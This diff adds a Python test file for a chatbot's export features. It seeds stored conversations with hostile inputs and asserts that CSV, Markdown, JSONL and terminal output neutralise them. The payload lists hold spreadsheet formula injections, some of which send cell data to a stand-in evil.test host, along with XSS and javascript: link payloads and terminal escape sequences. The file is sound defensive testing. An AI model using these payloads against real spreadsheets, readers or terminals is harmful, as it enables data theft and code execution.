@@ -1,0 +1,252 @@
+"""Stored text in every file that people take away: a spreadsheet, a Markdown reader, a terminal."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+from typer.testing import CliRunner
+
+from chatbot.accounts.audit import AuditLog
+from chatbot.accounts.people import LOCAL
+from chatbot.administration.exchange import Exchange
+from chatbot.assembly import Chatbot
+from chatbot.conversations.export import conversation_json, conversation_markdown
+from chatbot.conversations.feedback import DOWN, Feedback
+from chatbot.review.exports import Exports, Format
+from chatbot.review.ratings import Ratings
+from corpora.catalog.glossary import Entry, GlossaryError, tidy
+from corpora.catalog.glossary_file import written_glossary
+from tests.chatbot.asked import answer
+from tests.ui.attacks.attack import Attack
+from tests.ui.memory_pairs import keep
+from ui.cli.main import app
+
+APOSTROPHE = "an apostrophe before what a spreadsheet would calculate, whatever stands before it"
+ESCAPED = "what Markdown would read as more than text is escaped, and addresses stand in code"
+PLAIN = "control characters never reach a terminal, and markup of the terminal is escaped"
+LINES = "JSON, a row a line"
+
+FORMULAS = [
+    Attack(f"formula-{name}", "export", "csv", text, "a spreadsheet calculates, calls or sends",
+           APOSTROPHE)
+    for name, text in {
+        "equals": "=1+1",
+        "plus": "+1+1",
+        "minus": "-2+3",
+        "at": "@SUM(A1:A9)",
+        "call": "=cmd|' /C calc'!A1",
+        "link": '=HYPERLINK("http://evil.test?q="&A1,"see")',
+        "web": '=WEBSERVICE("http://evil.test/"&A1)',
+        "import": '=IMPORTXML("http://evil.test","//a")',
+        "picture": '=IMAGE("http://evil.test/p.png")',
+        "space": "  =1+1",
+        "tab": "\t=1+1",
+        "newline": "\n=1+1",
+        "return": "\r=1+1",
+        "no-break-space": "\u00a0=1+1",
+        "zero-width": "\u200b=1+1",
+        "mark": "\ufeff=1+1",
+        "quote": '"=1+1',
+        "quote-closes-cell": '","=1+1',
+        "apostrophe": "'=1+1",
+        "full-width": "＝1+1",
+        "full-width-at": "＠SUM(A1)",
+        "typographic-quote": "“=1+1",
+        "separator": ";=1+1",
+        "nul": "\0=1+1",
+        "line-separator": "\u2028=1+1",
+    }.items()
+]  # fmt: skip
+MARKUP = [
+    Attack(f"markup-{name}", "export", "markdown", text,
+           "a reader loads, links or runs something", ESCAPED)
+    for name, text in {
+        "script": "<script>alert(1)</script>",
+        "picture": "![x](https://evil.test/p.png)",
+        "picture-by-reference": "![x][r]\n\n[r]: https://evil.test/p.png",
+        "link": "[see](https://evil.test)",
+        "script-link": "[see](javascript:alert(1))",
+        "data-link": "[see](data:text/html;base64,PHNjcmlwdD4=)",
+        "autolink": "<https://evil.test>",
+        "bare-link": "https://evil.test/?q=1 and www.evil.test",
+        "mail": "mail a@evil.test",
+        "html-picture": "<img src=//evil.test onerror=alert(1)>",
+        "html-split": "<img\nsrc=//evil.test>",
+        "style": "<style>@import '//evil.test'</style>",
+        "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "drawing": "<svg><use href='//evil.test#x'/></svg>",
+        "mathematics": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+        "base": "<base href=//evil.test>",
+        "refresh": "<meta http-equiv=refresh content='0;url=//evil.test'>",
+        "form": "<form action=//evil.test><input name=q></form>",
+        "comment": "<!-- --!><script>alert(1)</script>",
+        "closes-code": "`` ` ``<b>x</b>` `",
+        "closes-listing": "```\n<script>alert(1)</script>\n```\n<b>x</b>",
+        "closes-cell": "| a | b |\n|---|---|\n| <b>x</b> | [y](//evil.test) |",
+        "entities": "&lt;script&gt; &#x5B;x&#x5D;(//evil.test)",
+        "heading": "# heading\n\nTitle\n=====",
+        "footnote": "[^1]\n\n[^1]: https://evil.test",
+        "front-matter": "---\ntitle: x\n---\n",
+        "mathematics-of-tex": "$\\href{javascript:alert(1)}{x}$",
+        "wiki-link": "[[evil]] ![[evil]]",
+        "diagram": "```mermaid\nclick A href \"javascript:alert(1)\"\n```",
+        "callout": "> [!NOTE]\n> x",
+    }.items()
+]  # fmt: skip
+TERMINAL = [
+    Attack(f"terminal-{name}", "export", "terminal", text,
+           "a terminal is rewritten, titled, linked or written to", PLAIN)
+    for name, text in {
+        "colour": "\x1b[31mred",
+        "clear": "\x1b[2J\x1b[H",
+        "title": "\x1b]0;evil\x07",
+        "link": "\x1b]8;;http://evil.test\x1b\\see\x1b]8;;\x1b\\",
+        "clipboard": "\x1b]52;c;ZXZpbA==\x07",
+        "answer-back": "\x1b[6n\x05",
+        "one-byte": "\x9b31mred",
+        "return": "done\rfake",
+        "backspace": "safe\b\b\b\bevil",
+        "bell": "\x07",
+        "turned": "\u202egnp.exe",
+        "markup": "[bold red]x[/] [link=http://evil.test]y[/link]",
+        "markup-broken": "[/] [/nothing] [",
+        "emoji": ":skull: :link:",
+    }.items()
+]  # fmt: skip
+TEXTS = [case.payload for case in (*FORMULAS, *MARKUP, *TERMINAL)]
+COLUMNS = ("question", "answer", "comment", "note", "corrected_answer")
+
+
+@pytest.fixture
+def hostile(chatbot: Chatbot) -> Chatbot:
+    """The valve's chatbot, in which every text that is kept is one of these."""
+    for text in TEXTS:
+        conversation = chatbot.conversations.start("valve", text)
+        reply = answer(answer=text, release_explanation=text)
+        turn = chatbot.conversations.add(conversation, text, reply)
+        Feedback(chatbot.database).give(turn, DOWN, "other", text or "x")
+        Ratings(chatbot.database).change(LOCAL, turn, corrected_answer=text, note=text)
+        keep(chatbot.database, text, text, links=(text,), rated_by=text)
+        AuditLog(chatbot.database).record(LOCAL, "upload", text, file=text)
+    chatbot.glossaries.replace(
+        "valve", [Entry(text, ("latch",)) for text in dict.fromkeys(terms())]
+    )
+    return chatbot
+
+
+def terms() -> Iterator[str]:
+    """Those that can be terms of a glossary; a file with another is refused whole."""
+    for text in TEXTS:
+        with suppress(GlossaryError):
+            yield tidy(Entry(text, ("latch",))).term
+
+
+def turns(chatbot: Chatbot, form: Format) -> str:
+    return "".join(Exports(chatbot.database).turns(LOCAL, form))
+
+
+def memory(chatbot: Chatbot, form: Format) -> str:
+    return "".join(Exchange(chatbot, LOCAL).export(form))
+
+
+def audit(chatbot: Chatbot, form: Format) -> str:
+    rows = AuditLog(chatbot.database).rows(LOCAL)
+    return "".join(Exports(chatbot.database).of(LOCAL, "audit log", rows, form))
+
+
+def glossary(chatbot: Chatbot, form: Format) -> str:
+    return written_glossary(chatbot.glossaries.entries("valve"))
+
+
+EXPORTS: dict[str, Callable[[Chatbot, Format], str]] = {
+    "turns": turns,
+    "memory": memory,
+    "audit": audit,
+    "glossary": glossary,
+}
+# Written apart from the expression that it tests: what a spreadsheet skips, and what it calculates.
+SKIPPED = ' \t\r\n\v\f\0\u00a0\u200b\u2028\ufeff"“”'
+CALCULATED = tuple("=+-@＝＋－＠")
+
+
+@pytest.mark.parametrize("name", EXPORTS)
+def test_no_cell_is_calculated(hostile: Chatbot, name: str) -> None:
+    text = EXPORTS[name](hostile, Format.CSV)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) > len(FORMULAS) / 2
+    assert {len(row) for row in rows} == {len(rows[0])}
+    cells = [cell for row in rows for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
+    assert [cell for cell in cells if cell.lstrip(SKIPPED).startswith(CALCULATED)] == []
+    assert not re.search("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u202e\u200b]", text)
+
+
+@pytest.mark.parametrize("name", ["turns", "memory", "audit"])
+def test_every_line_is_one_object(hostile: Chatbot, name: str) -> None:
+    lines = EXPORTS[name](hostile, Format.JSONL).split("\n")
+    assert lines.pop() == ""
+    assert len(lines) >= len(TEXTS)
+    assert all(isinstance(json.loads(line), dict) for line in lines)
+
+
+READER = MarkdownIt("gfm-like", {"linkify": False, "html": True})
+READER.validateLink = lambda url: True  # type: ignore[method-assign]
+OURS = {"heading", "paragraph", "bullet_list", "ordered_list", "list_item", "strong", "em"}
+SHOWN = {"text", "text_special", "code_inline", "code_block", "fence", "softbreak", "hardbreak",
+         "inline", "table", "thead", "tbody", "tr", "th", "td", "blockquote"}  # fmt: skip
+
+
+def test_a_conversation_in_a_file_is_text_and_nothing_else(hostile: Chatbot) -> None:
+    own = hostile.conversations
+    kept = own.recent(500)
+    assert len(kept) >= len(TEXTS)
+    for conversation in kept:
+        written = conversation_markdown(own, conversation.id)
+        tokens = READER.parse(written)
+        inside = [child for token in tokens for child in (*(token.children or ()), token)]
+        kinds = {re.sub("_(open|close)$", "", token.type) for token in inside}
+        assert kinds <= OURS | SHOWN, (kinds, written)
+        assert "\x1b" not in written
+        assert json.loads(conversation_json(own, conversation.id))["title"] is not None
+
+
+SAID = {
+    "memory": ["memory", "stats"],
+    "glossary": ["glossary", "list", "--product", "valve"],
+    "history": ["history", "export", "--format", "csv"],
+    "memory as a file": ["memory", "export", "--format", "csv"],
+    "releases": ["releases"],
+    "people": ["people", "list"],
+}
+
+
+@pytest.mark.parametrize("name", SAID)
+def test_a_command_prints_no_control_of_a_terminal(
+    hostile: Chatbot, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("STRATA_DATA_DIR", str(hostile.settings.data_dir))
+    monkeypatch.setenv("STRATA_GENERATOR", "none")
+    told = CliRunner().invoke(app, SAID[name])
+    assert told.exit_code == 0, told.output
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", told.output)
+
+
+@pytest.mark.parametrize("case", TERMINAL, ids=str)
+def test_a_file_s_name_in_a_report_is_text(
+    case: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("STRATA_DATA_DIR", str(tmp_path / "data"))
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / f"{case.payload.replace('/', '')}.md").write_bytes(b"")
+    told = CliRunner().invoke(app, ["ingest", str(docs), "--product", "p", "--release", "1"])
+    assert told.exit_code == 1
+    assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", told.output)
+    assert "evil" not in case.payload or "http://evil.test\x1b" not in told.output
